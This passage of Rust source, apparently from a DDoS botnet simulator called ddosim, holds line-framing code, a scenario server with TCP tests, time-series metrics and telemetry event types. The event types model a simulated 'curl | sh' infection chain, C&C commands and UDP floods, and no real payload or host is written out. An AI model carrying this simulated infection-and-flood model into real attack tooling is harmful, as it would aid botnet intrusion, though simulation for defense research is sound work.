                    // one burst — so it is consumed in full and no
                    // discard phase is needed.
                    return Err(FrameError::Oversized { limit: self.max });
                }
                return match String::from_utf8(line) {
                    Ok(s) => Ok(Some(s)),
                    Err(_) => Err(FrameError::NotUtf8),
                };
            }
            if self.discarding {
                // Still inside the oversized line: keep dropping.
                self.buf.clear();
            } else if self.buf.len() > self.max {
                self.buf.clear();
                self.discarding = true;
                return Err(FrameError::Oversized { limit: self.max });
            }
            if self.eof {
                if self.buf.is_empty() || self.discarding {
                    return Ok(None);
                }
                let line = std::mem::take(&mut self.buf);
                return match String::from_utf8(line) {
                    Ok(s) => Ok(Some(s)),
                    Err(_) => Err(FrameError::NotUtf8),
                };
            }
            let mut chunk = [0u8; 8192];
            match self.inner.read(&mut chunk) {
                Ok(0) => self.eof = true,
                Ok(n) => self.buf.extend_from_slice(&chunk[..n]),
                Err(e)
                    if e.kind() == std::io::ErrorKind::WouldBlock
                        || e.kind() == std::io::ErrorKind::TimedOut =>
                {
                    return Err(FrameError::TimedOut)
                }
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
                Err(e) => return Err(FrameError::Io(e.to_string())),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A reader that hands out a scripted byte stream in fixed-size
    /// chunks, so tests control exactly how frames are split across
    /// "TCP segments".
    struct Chunked {
        data: Vec<u8>,
        pos: usize,
        chunk: usize,
    }

    impl Chunked {
        fn new(data: &[u8], chunk: usize) -> Self {
            Chunked { data: data.to_vec(), pos: 0, chunk: chunk.max(1) }
        }
    }

    impl Read for Chunked {
        fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
            let n = self.chunk.min(buf.len()).min(self.data.len() - self.pos);
            buf[..n].copy_from_slice(&self.data[self.pos..self.pos + n]);
            self.pos += n;
            Ok(n)
        }
    }

    fn collect_lines(data: &[u8], chunk: usize) -> Vec<String> {
        let mut r = LineReader::new(Chunked::new(data, chunk));
        let mut out = Vec::new();
        while let Some(line) = r.next_line().expect("clean stream") {
            out.push(line);
        }
        out
    }

    #[test]
    fn frames_survive_any_segmentation() {
        let stream = b"{\"a\":1}\n{\"b\":2}\n{\"c\":3}\n";
        let whole = collect_lines(stream, usize::MAX);
        assert_eq!(whole, ["{\"a\":1}", "{\"b\":2}", "{\"c\":3}"]);
        // Byte-at-a-time delivery (the worst segmentation TCP can do)
        // and every chunk size in between produce the same frames.
        for chunk in 1..stream.len() {
            assert_eq!(collect_lines(stream, chunk), whole, "chunk size {chunk}");
        }
    }

    #[test]
    fn partial_line_at_eof_is_returned() {
        assert_eq!(collect_lines(b"{\"a\":1}\n{\"b\":2}", 3), ["{\"a\":1}", "{\"b\":2}"]);
        assert!(collect_lines(b"", 1).is_empty());
        // A lone newline is an empty line (the server skips those).
        assert_eq!(collect_lines(b"\n", 1), [""]);
    }

    #[test]
    fn oversized_line_is_an_error_then_resyncs() {
        let mut data = vec![b'x'; 100];
        data.extend_from_slice(b"\n{\"ok\":1}\n");
        let mut r = LineReader::with_max(Chunked::new(&data, 7), 16);
        match r.next_line() {
            Err(FrameError::Oversized { limit: 16 }) => {}
            other => panic!("expected Oversized, got {other:?}"),
        }
        // The reader resynchronizes at the newline and keeps framing.
        assert_eq!(r.next_line().expect("recovered"), Some("{\"ok\":1}".to_owned()));
        assert_eq!(r.next_line().expect("eof"), None);
    }

    #[test]
    fn oversized_line_fully_buffered_before_the_call_is_still_an_error() {
        // Everything — oversized line, its newline, and the next frame —
        // lands in the buffer in a single read, so the newline scan sees
        // the terminator before the length check would trip.
        let mut data = vec![b'x'; 100];
        data.extend_from_slice(b"\n{\"ok\":1}\n");
        let mut r = LineReader::with_max(Chunked::new(&data, usize::MAX), 16);
        match r.next_line() {
            Err(FrameError::Oversized { limit: 16 }) => {}
            other => panic!("expected Oversized, got {other:?}"),
        }
        assert_eq!(r.next_line().expect("recovered"), Some("{\"ok\":1}".to_owned()));
        assert_eq!(r.next_line().expect("eof"), None);
    }

    #[test]
    fn oversized_line_without_newline_ends_cleanly() {
        let data = vec![b'x'; 64];
        let mut r = LineReader::with_max(Chunked::new(&data, 5), 8);
        assert!(matches!(r.next_line(), Err(FrameError::Oversized { .. })));
        assert_eq!(r.next_line().expect("eof while discarding"), None);
    }

    #[test]
    fn invalid_utf8_is_recoverable() {
        let data = [0xFFu8, 0xFE, b'\n', b'o', b'k', b'\n'];
        let mut r = LineReader::new(Chunked::new(&data, 2));
        assert!(matches!(r.next_line(), Err(FrameError::NotUtf8)));
        assert_eq!(r.next_line().expect("recovered"), Some("ok".to_owned()));
    }
}
