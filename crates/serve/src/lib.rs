//! # serve — the long-running scenario server behind `ddosim serve`
//!
//! The batch CLI builds a world, runs it, and exits. This crate is the
//! production-service framing of the same engine: one resident process
//! listens on a local TCP socket, accepts scenario submissions as
//! newline-delimited JSON (`ddosim.serve/1`), runs each job on a
//! resident worker pool (one single-threaded world per worker, exactly
//! like the sweep runners in `ddosim_core::experiment`), and streams
//! per-job NDJSON frames back while the simulation is still going:
//! job-accepted/started, flight-recorder events the instant they are
//! recorded (via the telemetry crate's streaming sink), periodic
//! `SeriesSet` samples, then a final `RunResult` row. Multiple clients —
//! and multiple jobs per connection — multiplex over the same framing,
//! demuxed by job id.
//!
//! **Serving must not perturb determinism.** The job runner uses the
//! same `TelemetryConfig` the offline `--scenario --record` path uses,
//! the streaming sink is a pure observer of the flight recorder, and
//! incremental stepping (`Ddosim::run_prefix`) is the same resumable
//! phase walk checkpoint restore already proves byte-identical to a
//! straight-through run. CI enforces the consequence: a trace streamed
//! over the socket and reassembled by [`client::submit`] is
//! byte-identical to the same seed+plan run offline.
//!
//! A poisoned job (invalid config, mid-run panic) emits an `error`
//! frame for that job id and the server keeps serving — the same
//! per-row `catch_unwind` isolation the sweep paths use.

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod client;
pub mod framing;
pub mod protocol;
pub mod server;

pub use client::{submit, SubmitOptions, SubmitOutcome};
pub use framing::{FrameError, LineReader, MAX_LINE_BYTES};
pub use protocol::{job_id, Action, JobSpec, SubmitRequest, SERVE_SCHEMA};
pub use server::{serve, Server, ServeOptions};
