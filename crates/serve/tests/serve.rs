//! End-to-end tests over a real TCP socket: byte-identity of streamed
//! traces against the offline path, per-job panic isolation, framing
//! abuse (malformed and oversized lines), multi-job demuxing on one
//! connection, and graceful shutdown.

use ddosim_core::{SimulationBuilder, TelemetryConfig};
use djson::Json;
use serve::{submit, Server, ServeOptions, SubmitOptions, SubmitOutcome};
use std::io::Write as _;
use std::net::{SocketAddr, TcpStream};
use std::thread;
use std::time::Duration;

/// A plan small enough to run in well under a second.
const PLAN: &str = r#"{
    "schema": "ddosim.scenario/1",
    "name": "tiny",
    "world": { "devs": 3, "seed": 7, "sim_time_secs": 45, "attack_at_secs": 25 },
    "attack": { "vector": "udpplain", "duration_secs": 15 }
}"#;

fn start_server(workers: usize) -> (SocketAddr, thread::JoinHandle<Result<(), String>>) {
    let server = Server::bind(ServeOptions {
        listen: "127.0.0.1:0".to_owned(),
        idle_timeout: None,
        workers: Some(workers),
    })
    .expect("bind an ephemeral port");
    let addr = server.local_addr();
    let handle = thread::spawn(move || server.run());
    (addr, handle)
}

fn stop_server(addr: SocketAddr, handle: thread::JoinHandle<Result<(), String>>) {
    let outcome = submit(&SubmitOptions {
        addr: addr.to_string(),
        shutdown: true,
        ..SubmitOptions::default()
    })
    .expect("shutdown request");
    assert!(matches!(outcome, SubmitOutcome::ShutdownAcknowledged));
    handle.join().expect("server thread").expect("clean shutdown");
}

/// The offline reference: the exact bytes `ddosim --scenario --record`
/// would write for the same plan.
fn offline_trace(plan: &str) -> String {
    let plan = scenario::ScenarioPlan::parse(plan).expect("valid plan");
    let world = plan
        .build_with_telemetry(TelemetryConfig { record: true, ..TelemetryConfig::default() })
        .expect("valid configuration");
    let tele = world.telemetry().clone();
    let (_result, _cp) = world.try_run_to_completion().expect("run");
    tele.recorder_json().expect("recording").to_string_compact() + "\n"
}

#[test]
fn streamed_trace_is_byte_identical_to_offline() {
    let (addr, handle) = start_server(2);
    let outcome = submit(&SubmitOptions {
        addr: addr.to_string(),
        scenario: Some(PLAN.to_owned()),
        record: true,
        ..SubmitOptions::default()
    })
    .expect("job completes");
    let SubmitOutcome::Completed { trace, result, events_streamed, .. } = outcome else {
        panic!("expected a completed job");
    };
    let trace = trace.expect("record job reassembles a trace");
    assert_eq!(trace, offline_trace(PLAN), "streamed trace must equal offline bytes");
    assert!(events_streamed > 0, "a recorded run streams events");
    assert_eq!(result.get("devs").and_then(Json::as_u64), Some(3));
    assert_eq!(result.get("seed").and_then(Json::as_u64), Some(7));
    stop_server(addr, handle);
}

#[test]
fn metrics_jobs_stream_samples() {
    let (addr, handle) = start_server(1);
    let outcome = submit(&SubmitOptions {
        addr: addr.to_string(),
        scenario: Some(PLAN.to_owned()),
        metrics_interval_secs: Some(5.0),
        ..SubmitOptions::default()
    })
    .expect("job completes");
    let SubmitOutcome::Completed { metrics_samples, events_streamed, trace, .. } = outcome
    else {
        panic!("expected a completed job");
    };
    assert!(metrics_samples > 0, "sampling on means samples stream");
    assert_eq!(events_streamed, 0, "record was off");
    assert!(trace.is_none());
    stop_server(addr, handle);
}

#[test]
fn poisoned_job_reports_an_error_and_the_server_keeps_serving() {
    // tserver_link_bps = 0 passes validation but panics mid-run (the
    // zero-rate tx_delay) — the sweep paths' canonical poison pill.
    let poisoned = SimulationBuilder::new()
        .devs(2)
        .attack(ddosim_core::AttackSpec::udp_plain(Duration::from_secs(15)))
        .attack_at(Duration::from_secs(25))
        .sim_time(Duration::from_secs(45))
        .seed(1)
        .tserver_link_bps(0)
        .config()
        .clone();
    let doc = ddosim_core::checkpoint::config_to_json(&poisoned).to_string_compact();

    let (addr, handle) = start_server(1);
    let err = submit(&SubmitOptions {
        addr: addr.to_string(),
        config: Some(doc),
        ..SubmitOptions::default()
    })
    .expect_err("a poisoned job must fail");
    assert!(err.contains("panicked"), "got: {err}");
    assert!(err.contains(".rs:"), "panic location missing from: {err}");

    // The worker survived: the very next job on the same single-worker
    // server completes normally.
    let outcome = submit(&SubmitOptions {
        addr: addr.to_string(),
        scenario: Some(PLAN.to_owned()),
        ..SubmitOptions::default()
    })
    .expect("server still serves after a poisoned job");
    assert!(matches!(outcome, SubmitOutcome::Completed { .. }));
    stop_server(addr, handle);
}

#[test]
fn invalid_submissions_are_rejected_without_killing_the_connection() {
    let (addr, handle) = start_server(1);
    // An invalid plan round-trips through the server's strict parser.
    let err = submit(&SubmitOptions {
        addr: addr.to_string(),
        scenario: Some(r#"{"schema":"ddosim.wrong/9"}"#.to_owned()),
        ..SubmitOptions::default()
    })
    .expect_err("bad schema must be rejected");
    assert!(err.contains("scenario"), "got: {err}");
    // An invalid config likewise.
    let err = submit(&SubmitOptions {
        addr: addr.to_string(),
        config: Some(r#"{"devs": 3}"#.to_owned()),
        ..SubmitOptions::default()
    })
    .expect_err("truncated config must be rejected");
    assert!(err.contains("config"), "got: {err}");
    stop_server(addr, handle);
}

/// Reads frame lines off a raw socket until `stop` says enough.
fn read_frames(
    stream: TcpStream,
    mut stop: impl FnMut(&[Json]) -> bool,
) -> Vec<Json> {
    stream
        .set_read_timeout(Some(Duration::from_secs(60)))
        .expect("read timeout");
    let mut reader = serve::LineReader::new(stream);
    let mut frames = Vec::new();
    loop {
        match reader.next_line() {
            Ok(Some(line)) if line.trim().is_empty() => continue,
            Ok(Some(line)) => {
                frames.push(Json::parse(&line).expect("server sends valid JSON"));
                if stop(&frames) {
                    return frames;
                }
            }
            Ok(None) => panic!("connection closed early; frames so far: {}", frames.len()),
            Err(e) => panic!("read failed: {}", e.message()),
        }
    }
}

fn kind(frame: &Json) -> &str {
    frame.get("frame").and_then(Json::as_str).unwrap_or("?")
}

#[test]
fn malformed_and_oversized_lines_get_error_frames_then_service_resumes() {
    let (addr, handle) = start_server(1);
    let mut stream = TcpStream::connect(addr).expect("connect");
    // 1: not JSON at all. 2: an oversized line (beyond the 4 MiB frame
    // limit). 3: a JSON document that is not a valid request. 4: a real
    // submission — the connection must still work.
    let oversized = "x".repeat(serve::MAX_LINE_BYTES + 16);
    let submit_line = format!(
        r#"{{"schema":"ddosim.serve/1","action":"submit","id":"ok","scenario":{}}}"#,
        PLAN.replace('\n', " ")
    );
    stream
        .write_all(format!("this is not json\n{oversized}\n{{\"schema\":1}}\n{submit_line}\n").as_bytes())
        .and_then(|()| stream.flush())
        .expect("write");

    let frames = read_frames(stream, |frames| {
        frames.iter().any(|f| kind(f) == "result")
    });
    let kinds: Vec<&str> = frames.iter().map(kind).collect();
    assert_eq!(
        kinds[..3],
        ["error", "error", "error"],
        "each bad line answers with an error frame; got {kinds:?}"
    );
    let messages: Vec<&str> = frames[..3]
        .iter()
        .map(|f| f.get("error").and_then(Json::as_str).unwrap_or("?"))
        .collect();
    assert!(
        messages[1].contains("byte frame limit"),
        "the oversized line names the limit; errors: {messages:?}"
    );
    for f in &frames[..3] {
        assert!(f.get("job").expect("error frames carry a job field").is_null());
    }
    // The real submission then runs to completion on the same connection.
    assert!(kinds.contains(&"accepted") && kinds.contains(&"result"));
    assert_eq!(serve::job_id(frames.last().expect("nonempty")), Some("ok"));
    stop_server(addr, handle);
}

#[test]
fn two_jobs_on_one_connection_demux_by_job_id() {
    let (addr, handle) = start_server(2);
    let mut stream = TcpStream::connect(addr).expect("connect");
    let line = |id: &str| {
        format!(
            r#"{{"schema":"ddosim.serve/1","action":"submit","id":"{id}","record":true,"scenario":{}}}"#,
            PLAN.replace('\n', " ")
        )
    };
    stream
        .write_all(format!("{}\n{}\n", line("a"), line("b")).as_bytes())
        .and_then(|()| stream.flush())
        .expect("write");

    let frames = read_frames(stream, |frames| {
        frames.iter().filter(|f| kind(f) == "result").count() == 2
    });
    // Both jobs ran concurrently over one socket; demuxing by job id
    // recovers each job's own ordered stream.
    for id in ["a", "b"] {
        let mine: Vec<&Json> =
            frames.iter().filter(|f| serve::job_id(f) == Some(id)).collect();
        let kinds: Vec<&str> = mine.iter().map(|f| kind(f)).collect();
        assert_eq!(kinds.first(), Some(&"accepted"), "job {id}: {kinds:?}");
        assert_eq!(kinds.get(1), Some(&"started"), "job {id}");
        assert_eq!(kinds.last(), Some(&"result"), "job {id}");
        // The demuxed event stream is in ring order: seq strictly
        // ascending from 0.
        let seqs: Vec<u64> = mine
            .iter()
            .filter(|f| kind(f) == "event")
            .filter_map(|f| f.get("event")?.get("seq")?.as_u64())
            .collect();
        assert!(!seqs.is_empty(), "job {id} streamed events");
        assert!(
            seqs.windows(2).all(|w| w[1] == w[0] + 1) && seqs[0] == 0,
            "job {id}: event seqs not contiguous from 0"
        );
    }
    // Same seed, same plan: both jobs' demuxed event payloads are
    // identical — concurrency did not perturb either run.
    let payloads = |id: &str| -> Vec<String> {
        frames
            .iter()
            .filter(|f| serve::job_id(f) == Some(id) && kind(f) == "event")
            .map(|f| f.get("event").expect("event payload").to_string_compact())
            .collect()
    };
    assert_eq!(payloads("a"), payloads("b"));
    stop_server(addr, handle);
}

#[test]
fn idle_timeout_shuts_the_server_down_cleanly() {
    let server = Server::bind(ServeOptions {
        listen: "127.0.0.1:0".to_owned(),
        idle_timeout: Some(Duration::from_millis(200)),
        workers: Some(1),
    })
    .expect("bind");
    let handle = thread::spawn(move || server.run());
    handle
        .join()
        .expect("server thread")
        .expect("idle timeout is a clean exit");
}

proptest::proptest! {
    #![proptest_config(proptest::ProptestConfig::with_cases(16))]
    /// Demuxing is a pure function of the frame stream: ANY interleaving
    /// of two jobs' frames recovers each job's exact per-job sequence.
    #[test]
    fn any_interleaving_demuxes_to_the_same_per_job_sequences(seed in proptest::any::<u64>()) {
        let stream_for = |id: &str| -> Vec<Json> {
            let mut frames = vec![serve::protocol::frame_accepted(id)];
            frames.push(serve::protocol::frame_started(id, Some(8)));
            for i in 0..6u64 {
                let event = telemetry::Event {
                    time_nanos: i * 10,
                    seq: i,
                    node: Some(1),
                    category: telemetry::Category::Phase,
                    detail: format!("{id}:{i}"),
                };
                frames.push(serve::protocol::frame_event(id, &event));
            }
            frames.push(serve::protocol::frame_result(id, Json::Null, 6, Some(8)));
            frames
        };
        let a = stream_for("job-a");
        let b = stream_for("job-b");
        // Interleave by consuming the seed as a bitstream; each per-job
        // relative order is preserved, which is exactly what the
        // server's one-writer-per-connection funnel guarantees.
        let (mut ai, mut bi, mut bits) = (0usize, 0usize, seed);
        let mut wire: Vec<Json> = Vec::with_capacity(a.len() + b.len());
        while ai < a.len() || bi < b.len() {
            let take_a = bi >= b.len() || (ai < a.len() && bits & 1 == 0);
            if take_a {
                wire.push(a[ai].clone());
                ai += 1;
            } else {
                wire.push(b[bi].clone());
                bi += 1;
            }
            bits = bits.rotate_right(1);
        }
        for (id, original) in [("job-a", &a), ("job-b", &b)] {
            let demuxed: Vec<String> = wire
                .iter()
                .filter(|f| serve::job_id(f) == Some(id))
                .map(Json::to_string_compact)
                .collect();
            let expected: Vec<String> =
                original.iter().map(Json::to_string_compact).collect();
            proptest::prop_assert_eq!(demuxed, expected);
        }
    }
}
