//! Fixed-interval time series.
//!
//! A [`TimeSeries`] is the shared currency between the metrics sampler
//! (periodic queue-depth / rate / population samples) and the figure
//! pipelines: sample index `i` covers simulated time
//! `[i * interval, (i+1) * interval)`, so binning is implicit and two
//! same-seed runs produce identical vectors.

use djson::{Json, ToJson};

/// One named metric sampled at a fixed simulated-time interval.
#[derive(Debug, Clone, PartialEq)]
pub struct TimeSeries {
    name: String,
    interval_nanos: u64,
    samples: Vec<f64>,
}

impl TimeSeries {
    /// Creates an empty series named `name` with the given sampling
    /// interval (min 1 ns).
    pub fn new(name: impl Into<String>, interval_nanos: u64) -> Self {
        TimeSeries {
            name: name.into(),
            interval_nanos: interval_nanos.max(1),
            samples: Vec::new(),
        }
    }

    /// Metric name.
    pub fn name(&self) -> &str {
        &self.name
    }

    /// Sampling interval in nanoseconds.
    pub fn interval_nanos(&self) -> u64 {
        self.interval_nanos
    }

    /// Appends the next sample.
    pub fn push(&mut self, value: f64) {
        self.samples.push(value);
    }

    /// Adds `value` into the bin covering `time_nanos`, growing the
    /// series with zero-filled bins as needed. This is the accumulator
    /// form used for per-interval byte/packet counts.
    pub fn accumulate(&mut self, time_nanos: u64, value: f64) {
        let bin = (time_nanos / self.interval_nanos) as usize;
        if self.samples.len() <= bin {
            self.samples.resize(bin + 1, 0.0);
        }
        self.samples[bin] += value;
    }

    /// The samples so far.
    pub fn samples(&self) -> &[f64] {
        &self.samples
    }

    /// Number of samples.
    pub fn len(&self) -> usize {
        self.samples.len()
    }

    /// Whether no samples have been taken.
    pub fn is_empty(&self) -> bool {
        self.samples.is_empty()
    }

    /// Ensures the series has at least `bins` samples (zero-filled), so
    /// trailing silent intervals still appear in the output.
    pub fn pad_to(&mut self, bins: usize) {
        if self.samples.len() < bins {
            self.samples.resize(bins, 0.0);
        }
    }
}

impl ToJson for TimeSeries {
    fn to_json(&self) -> Json {
        Json::obj([
            ("name", Json::Str(self.name.clone())),
            ("interval_nanos", Json::U64(self.interval_nanos)),
            ("samples", self.samples.to_json()),
        ])
    }
}

/// An ordered collection of series sharing one sampling interval.
/// Series are created on first use and serialized in creation order, so
/// output is deterministic as long as the sampling code path is.
#[derive(Debug, Clone, Default)]
pub struct SeriesSet {
    interval_nanos: u64,
    series: Vec<TimeSeries>,
}

/// Schema tag written into every serialized metrics document.
pub const METRICS_SCHEMA: &str = "ddosim.telemetry.metrics/1";

impl SeriesSet {
    /// Creates an empty set whose series all sample every
    /// `interval_nanos` (min 1 ns).
    pub fn new(interval_nanos: u64) -> Self {
        SeriesSet { interval_nanos: interval_nanos.max(1), series: Vec::new() }
    }

    /// Shared sampling interval in nanoseconds.
    pub fn interval_nanos(&self) -> u64 {
        self.interval_nanos
    }

    /// The series named `name`, created empty on first use.
    pub fn series_mut(&mut self, name: &str) -> &mut TimeSeries {
        if let Some(i) = self.series.iter().position(|s| s.name() == name) {
            return &mut self.series[i];
        }
        self.series.push(TimeSeries::new(name, self.interval_nanos));
        self.series.last_mut().expect("just pushed")
    }

    /// Looks up a series without creating it.
    pub fn get(&self, name: &str) -> Option<&TimeSeries> {
        self.series.iter().find(|s| s.name() == name)
    }

    /// All series, in creation order.
    pub fn all(&self) -> &[TimeSeries] {
        &self.series
    }

    /// Serializes every series under the metrics schema.
    pub fn to_json(&self) -> Json {
        Json::obj([
            ("schema", Json::Str(METRICS_SCHEMA.into())),
            ("interval_nanos", Json::U64(self.interval_nanos)),
            (
                "series",
                Json::Arr(self.series.iter().map(ToJson::to_json).collect()),
            ),
        ])
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn accumulate_bins_by_interval() {
        let mut s = TimeSeries::new("bytes", 1_000_000_000); // 1 s bins
        s.accumulate(100, 10.0); // bin 0
        s.accumulate(999_999_999, 5.0); // still bin 0
        s.accumulate(2_500_000_000, 7.0); // bin 2, bin 1 zero-filled
        assert_eq!(s.samples(), &[15.0, 0.0, 7.0]);
        s.pad_to(5);
        assert_eq!(s.len(), 5);
        s.pad_to(2); // never shrinks
        assert_eq!(s.len(), 5);
    }

    #[test]
    fn series_set_creates_on_first_use_and_keeps_order() {
        let mut set = SeriesSet::new(500);
        set.series_mut("b").push(1.0);
        set.series_mut("a").push(2.0);
        set.series_mut("b").push(3.0);
        let names: Vec<&str> = set.all().iter().map(TimeSeries::name).collect();
        assert_eq!(names, vec!["b", "a"], "creation order, not sorted");
        assert_eq!(set.get("b").expect("b").samples(), &[1.0, 3.0]);
        assert!(set.get("missing").is_none());
    }

    #[test]
    fn serialization_is_stable() {
        let mut set = SeriesSet::new(1_000);
        set.series_mut("depth").push(4.0);
        assert_eq!(
            set.to_json().to_string_compact(),
            set.clone().to_json().to_string_compact()
        );
    }
}
