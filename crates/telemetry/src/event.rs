//! Structured flight-recorder events.
//!
//! An [`Event`] is deliberately layer-agnostic: sim-time as raw
//! nanoseconds, the node as a raw index, and the payload as a
//! preformatted string. That keeps this crate free of any dependency on
//! netsim/firmware/malware types so every layer can emit into the same
//! recorder without a dependency cycle.

use djson::{FromJson, Json, JsonError, ToJson};

/// What kind of thing happened. One variant per instrumentation site
/// class across the stack (netsim, firmware, malware, core).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Category {
    /// A frame started serializing onto a link.
    LinkTx,
    /// A packet was dropped (any [`DropReason`-like] cause).
    LinkDrop,
    /// A Wi-Fi station drew a contention backoff.
    WifiBackoff,
    /// Two or more Wi-Fi stations collided on the medium.
    WifiCollision,
    /// tcp-lite retransmitted a segment after an RTO.
    TcpRetransmit,
    /// The calendar event queue swept overdue overflow events back into
    /// the active window.
    QueueSweep,
    /// A node was administratively brought up or down.
    NodeAdmin,
    /// A container (device firmware) started.
    ContainerStart,
    /// A container stopped or was power-cycled.
    Reboot,
    /// The emulated shell executed a command line.
    ShellExec,
    /// One stage of the `curl | sh` infection chain completed.
    CurlShStage,
    /// A bot registered with the C&C server.
    CncRegister,
    /// The C&C server issued a command.
    CncCommand,
    /// A device transitioned infection state (e.g. clean → infected).
    Infection,
    /// A bot started or stopped flooding.
    Flood,
    /// An experiment phase marker (init / attack / drain).
    Phase,
    /// A point-to-point link changed administrative state or loss
    /// probability (the netsim mechanism underneath link faults).
    LinkAdmin,
    /// The fault-injection layer executed a planned fault.
    Fault,
    /// A scenario-scheduled defense was deployed or acted (rate limit,
    /// egress filter, patch wave, C&C takedown).
    Defense,
    /// A honeypot observed a scanner and fed the blocklist.
    Honeypot,
}

impl Category {
    /// Stable wire name (used in serialized traces; never reorder).
    pub fn as_str(self) -> &'static str {
        match self {
            Category::LinkTx => "link_tx",
            Category::LinkDrop => "link_drop",
            Category::WifiBackoff => "wifi_backoff",
            Category::WifiCollision => "wifi_collision",
            Category::TcpRetransmit => "tcp_retransmit",
            Category::QueueSweep => "queue_sweep",
            Category::NodeAdmin => "node_admin",
            Category::ContainerStart => "container_start",
            Category::Reboot => "reboot",
            Category::ShellExec => "shell_exec",
            Category::CurlShStage => "curl_sh_stage",
            Category::CncRegister => "cnc_register",
            Category::CncCommand => "cnc_command",
            Category::Infection => "infection",
            Category::Flood => "flood",
            Category::Phase => "phase",
            Category::LinkAdmin => "link_admin",
            Category::Fault => "fault",
            Category::Defense => "defense",
            Category::Honeypot => "honeypot",
        }
    }

    /// Inverse of [`Category::as_str`].
    pub fn parse(s: &str) -> Option<Category> {
        Some(match s {
            "link_tx" => Category::LinkTx,
            "link_drop" => Category::LinkDrop,
            "wifi_backoff" => Category::WifiBackoff,
            "wifi_collision" => Category::WifiCollision,
            "tcp_retransmit" => Category::TcpRetransmit,
            "queue_sweep" => Category::QueueSweep,
            "node_admin" => Category::NodeAdmin,
            "container_start" => Category::ContainerStart,
            "reboot" => Category::Reboot,
            "shell_exec" => Category::ShellExec,
            "curl_sh_stage" => Category::CurlShStage,
            "cnc_register" => Category::CncRegister,
            "cnc_command" => Category::CncCommand,
            "infection" => Category::Infection,
            "flood" => Category::Flood,
            "phase" => Category::Phase,
            "link_admin" => Category::LinkAdmin,
            "fault" => Category::Fault,
            "defense" => Category::Defense,
            "honeypot" => Category::Honeypot,
            _ => return None,
        })
    }
}

/// One flight-recorder entry.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Event {
    /// Simulated time in nanoseconds.
    pub time_nanos: u64,
    /// Monotonic sequence number assigned by the recorder; breaks ties
    /// between same-instant events so traces are totally ordered.
    pub seq: u64,
    /// Node index the event happened at, if any (phase markers have none).
    pub node: Option<u32>,
    /// Event class.
    pub category: Category,
    /// Human-readable payload; formatting is deterministic (no wall
    /// clock, no addresses-of, nothing platform-dependent).
    pub detail: String,
}

impl ToJson for Event {
    fn to_json(&self) -> Json {
        Json::obj([
            ("t", Json::U64(self.time_nanos)),
            ("seq", Json::U64(self.seq)),
            (
                "node",
                match self.node {
                    Some(n) => Json::U64(u64::from(n)),
                    None => Json::Null,
                },
            ),
            ("cat", Json::Str(self.category.as_str().into())),
            ("detail", Json::Str(self.detail.clone())),
        ])
    }
}

impl FromJson for Event {
    fn from_json(json: &Json) -> Result<Self, JsonError> {
        let t = json.get("t").ok_or_else(|| JsonError::conversion("event missing 't'"))?;
        let seq = json.get("seq").ok_or_else(|| JsonError::conversion("event missing 'seq'"))?;
        let cat = json
            .get("cat")
            .and_then(Json::as_str)
            .ok_or_else(|| JsonError::conversion("event missing 'cat'"))?;
        let detail = json
            .get("detail")
            .and_then(Json::as_str)
            .ok_or_else(|| JsonError::conversion("event missing 'detail'"))?;
        let node = match json.get("node") {
            None | Some(Json::Null) => None,
            Some(v) => Some(
                u64::from_json(v)? as u32,
            ),
        };
        Ok(Event {
            time_nanos: u64::from_json(t)?,
            seq: u64::from_json(seq)?,
            node,
            category: Category::parse(cat)
                .ok_or_else(|| JsonError::conversion("unknown event category"))?,
            detail: detail.to_string(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn category_round_trips() {
        for cat in [
            Category::LinkTx,
            Category::LinkDrop,
            Category::WifiBackoff,
            Category::WifiCollision,
            Category::TcpRetransmit,
            Category::QueueSweep,
            Category::NodeAdmin,
            Category::ContainerStart,
            Category::Reboot,
            Category::ShellExec,
            Category::CurlShStage,
            Category::CncRegister,
            Category::CncCommand,
            Category::Infection,
            Category::Flood,
            Category::Phase,
            Category::LinkAdmin,
            Category::Fault,
            Category::Defense,
            Category::Honeypot,
        ] {
            assert_eq!(Category::parse(cat.as_str()), Some(cat));
        }
        assert_eq!(Category::parse("nope"), None);
    }

    #[test]
    fn event_json_round_trips() {
        let e = Event {
            time_nanos: 1_500_000_000,
            seq: 7,
            node: Some(3),
            category: Category::Infection,
            detail: "dev3 infected".into(),
        };
        let back = Event::from_json(&e.to_json()).expect("round trip");
        assert_eq!(back, e);

        let phase = Event { node: None, category: Category::Phase, ..e };
        let back = Event::from_json(&phase.to_json()).expect("round trip");
        assert_eq!(back, phase);
    }
}
