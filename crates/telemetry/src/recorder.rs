//! The flight recorder: a bounded ring buffer of [`Event`]s.
//!
//! Like an aircraft flight recorder, it keeps the most recent window of
//! activity: once `capacity` events have been recorded the oldest are
//! overwritten. `total_recorded` keeps counting, so the serialized form
//! says both what was kept and how much history scrolled off.

use crate::event::Event;
use djson::{FromJson, Json, JsonError, ToJson};

/// Schema tag written into every serialized recorder trace.
pub const RECORDER_SCHEMA: &str = "ddosim.telemetry.recorder/1";

/// Ring-buffered structured event log.
#[derive(Debug, Clone)]
pub struct FlightRecorder {
    capacity: usize,
    /// Ring storage; `head` is the index the *next* event lands in once
    /// the buffer is full.
    buf: Vec<Event>,
    head: usize,
    total: u64,
    next_seq: u64,
}

impl FlightRecorder {
    /// Creates a recorder keeping at most `capacity` events (min 1).
    pub fn new(capacity: usize) -> Self {
        let capacity = capacity.max(1);
        FlightRecorder {
            capacity,
            buf: Vec::new(),
            head: 0,
            total: 0,
            next_seq: 0,
        }
    }

    /// Maximum number of retained events.
    pub fn capacity(&self) -> usize {
        self.capacity
    }

    /// Number of events recorded over the recorder's lifetime (may
    /// exceed `capacity`; the excess has been overwritten).
    pub fn total_recorded(&self) -> u64 {
        self.total
    }

    /// Number of events currently retained.
    pub fn len(&self) -> usize {
        self.buf.len()
    }

    /// Whether nothing has been recorded yet.
    pub fn is_empty(&self) -> bool {
        self.buf.is_empty()
    }

    /// Records `event`, stamping it with the next sequence number and
    /// evicting the oldest retained event when full. Returns the sequence
    /// number the event was stamped with, so a live tap (serve mode's
    /// streaming sink) can forward the exact stored entry.
    pub fn record(&mut self, mut event: Event) -> u64 {
        let seq = self.next_seq;
        event.seq = seq;
        self.next_seq += 1;
        self.total += 1;
